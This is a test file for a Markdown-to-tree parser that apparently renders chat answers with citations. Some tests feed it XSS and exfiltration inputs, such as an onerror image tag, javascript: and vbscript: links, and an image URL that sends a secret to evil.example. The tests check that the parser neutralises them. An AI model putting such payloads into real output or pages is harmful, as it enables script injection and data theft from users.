import { type Block, type Inline, markdownTree } from './markdown-tree';

const inline = (text: string, cited: number[] = []): Inline[] => {
  const [block] = markdownTree(text, new Set(cited)) as (Block & { children: Inline[] })[];
  return block?.children ?? [];
};

describe('markdownTree', () => {
  it('turns marks of known sources into citations and leaves other numbers in brackets', () => {
    expect(inline('Five days [1], see [9].', [1])).toEqual([
      { type: 'text', text: 'Five days ' },
      { type: 'citation', n: 1 },
      { type: 'text', text: ', see [9].' },
    ]);
  });

  it('keeps HTML as text', () => {
    expect(JSON.stringify(markdownTree('<img src=x onerror=alert(1)>\n\nHi <b>you</b>'))).not.toMatch(/"type":"html"/);
    expect(inline('Hi <b>you</b>')).toContainEqual({ type: 'text', text: '<b>' });
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', '//evil.example', '/relative'])(
    'does not link to %s',
    (href) => {
      expect(JSON.stringify(inline(`[click](${href})`))).not.toContain('"link"');
    },
  );

  it('links to the web', () => {
    expect(inline('[docs](https://example.com/a?b=1)')).toEqual([
      { type: 'link', href: 'https://example.com/a?b=1', children: [{ type: 'text', text: 'docs' }] },
    ]);
  });

  it('never loads an image', () => {
    expect(inline('![leak](https://evil.example/?q=secret)')).toEqual([{ type: 'text', text: 'leak' }]);
  });

  it('reads tables, lists, code and headings', () => {
    const tree = markdownTree('## Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n3. x\n4. y\n\n```js\nlet a;\n```');
    expect(tree.map((block) => block.type)).toEqual(['heading', 'table', 'list', 'code']);
    expect(tree[2]).toMatchObject({ ordered: true, start: 3 });
    expect(tree[3]).toEqual({ type: 'code', text: 'let a;', language: 'js' });
  });

  it('handles unfinished Markdown, as it arrives while streaming', () => {
    const text = '**bold `code [1](http://x | a |\n|--\n```ts\nconst';
    for (let end = 0; end <= text.length; end++) expect(() => markdownTree(text.slice(0, end))).not.toThrow();
  });

  it('decodes entities to characters', () => {
    expect(inline('a &amp; b &lt;c&gt; &unknown;')).toEqual([{ type: 'text', text: 'a & b <c> &unknown;' }]);
  });
});
